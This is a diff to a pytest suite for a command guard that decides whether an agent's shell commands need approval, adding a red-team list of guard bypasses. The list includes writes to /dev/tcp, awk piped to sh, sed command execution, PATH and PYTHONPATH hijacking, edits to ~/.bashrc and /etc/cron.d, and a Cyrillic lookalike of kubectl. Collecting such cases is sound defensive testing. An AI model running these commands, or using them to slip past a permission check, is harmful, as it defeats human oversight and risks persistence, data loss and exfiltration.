@@ -250,6 +250,60 @@ CONSTRUCTS = [
     "trap 'kubectl delete pod x' EXIT",
     "if false; then f() { :; }; fi; f",
 ]
+# A second, independent red team (beyond the issue's list); each line broke a general rule that
+# is now fixed in mlwiki.guard, or checks one that held.
+INDEPENDENT = [
+    "hash -p /tmp/evil/kubectl kubectl; kubectl get pods",
+    "mapfile -C 'kubectl delete pod x' -c 1 lines < file",
+    "readarray -C 'kubectl delete pod x' arr < file",
+    "declare -n ref=PATH; ref=/tmp/evil; kubectl get pods",
+    "local -n ref=KUBECONFIG",
+    "typeset -n r=HOME",
+    "kubectl get pods > /dev/tcp/10.0.0.1/80",
+    "cat < /dev/tcp/10.0.0.1/443",
+    "exec 3<>/dev/tcp/10.0.0.1/443",
+    "ss -K dst 10.0.0.1",
+    "git status",
+    "git -C /tmp/evil log",
+    "python3 -m json.tool x.json",  # with ./json.py planted in the working directory
+    "mlwiki snapshot --out .claude",
+    "mlwiki troubleshoot llm --bundle b --out ../mlwiki/guard",
+    "mlwiki lint --output ~/.bashrc",
+    "mlwiki handoff --watch k --bucket b --download-dir /etc/cron.d",
+    "awk '{print $1 > \"/tmp/../etc/x\"}' f",
+    "awk '{print $1 | \"sh\"}' f",
+    "awk '{ \"date\" | getline d }' f",
+    'awk \'{printf "%s", $1 > "out"}\' f',
+    "kube\\\nctl delete pod x",
+    "select x in a; do kubectl delete pod x; done",
+    "function f { kubectl delete pod x; }; f",
+    "f() ( kubectl drain n1 )",
+    "cat <<-EOF\n\t$(kubectl delete pod x)\n\tEOF",
+    "PS4='$(kubectl delete pod x)' bash -xc true",
+    "PROMPT_COMMAND='kubectl delete pod x' bash -i",
+    "env 'BASH_FUNC_kubectl%%=() { command kubectl delete pod x; }' bash -c 'kubectl get pods'",
+    "exec -a kubectl /tmp/evil get pods",
+    "sudo -u nobody -- kubectl delete pod x",
+    "nice --adjustment=5 kubectl delete pod x",
+    "timeout --signal=KILL 5 kubectl delete pod x",
+    "xargs -a pods.txt kubectl delete pod",
+    "kubectl get pods -w | while read l; do kubectl delete pod $l; done",
+    "kubectl create deploy x --image=y --dry-run=client -o yaml | kubectl apply -f -",
+    "gcloud compute instances list --uri | xargs -n1 gcloud compute instances delete",
+    "PYTHONPATH=/tmp/evil python3 -m mlwiki lint",
+    "python3 -mmlwiki action cordon-node --param node=n",
+    "python3 -W ignore -E -m mlwiki action delete-pod --param pod=p",
+    "python3 -m mlwiki.cli action cordon-node",
+    "mlwiki action cordon-node --param node=n --dry-run --approve",
+    "kubeсtl delete pod x",  # a Cyrillic letter: not the program it looks like
+    "\\kubectl delete pod x",
+    "echo x | tee -a ~/.bashrc",
+    "find . -name x -fprint /etc/x",
+    "sed -e 's/a/b/;w /etc/x' f",
+    "sed '1e id' f",
+    "hostname -F name.txt",
+    "kubectl get pods; exit; kubectl delete pod x",
+]
 ASK = [
     *COMPUTED_NAMES, *ARGUMENTS, *INTERPRETERS, *SHELLS, *WRAPPERS, *NETWORK, *TOOLS, *MLWIKI,
     *ENVIRONMENT_AND_FILES, *CONSTRUCTS,
@@ -294,8 +348,8 @@ READ_ONLY = [
     "for f in a b; do echo $f; done",
     "grep -rn 'kubectl delete' docs/ | head",
     "cat findings.json | python3 -m json.tool | head -40",
-    "ls -la && git status && git log --oneline -5",
-    "git diff HEAD~1 -- _wiki/actions | head -100",
+    "ls -la && pwd && whoami",
+    "diff <(kubectl get pods -o name) <(kubectl get pods -n ml -o name)",
     "cd _wiki && ls actions | wc -l",
     "LC_ALL=C sort -u hosts.txt",
     "date -u +%Y-%m-%dT%H:%M:%SZ",
@@ -303,7 +357,25 @@ READ_ONLY = [
     "f() { kubectl get pods -n ml --no-headers 2>/dev/null; }; f | head",
     "kubectl get pods -o name | head -3 | while read p; do echo $p; done",
     "cat <<'EOF'\n$(not run) `not run`\nEOF",
+    "kubectl get pods -A --no-headers | awk 'NR>1 && $4 > 3 {print $2}'",
+    'kubectl get pods | awk \'$3 == "Error" || $3 == "OOMKilled" {print $1}\'',
+    "kubectl get pods | awk '{printf \"%s > %s\\n\", $1, $2}'",
+    "kubectl get pods 2>&1 >/dev/null | head",
+    "mlwiki troubleshoot llm --bundle b --out findings-dir",
 ]
+
+
+@pytest.fixture(scope="module")
+def workdir(tmp_path_factory: pytest.TempPathFactory) -> str:
+    """A working directory inside the repository's worktree layout, with a planted json.py."""
+    root = tmp_path_factory.mktemp("agent-cwd")
+    (root / "json.py").write_text("import os  # planted: would shadow the json module\n")
+    return str(root)
+
+
+@pytest.mark.parametrize("command", INDEPENDENT)
+def test_independent_attack_asks_from_any_directory(command: str, workdir: str) -> None:
+    assert judge(command, cwd=workdir).ask, command
 
 
 @pytest.mark.parametrize("command", ASK)
@@ -321,6 +393,7 @@ def test_read_only_passes(command: str) -> None:
 
 def test_suite_sizes() -> None:
     assert len(ASK) >= 100 and len(set(ASK)) == len(ASK)
+    assert len(INDEPENDENT) >= 30
     assert len(READ_ONLY) >= 30 and len(set(READ_ONLY)) == len(READ_ONLY)
 
 
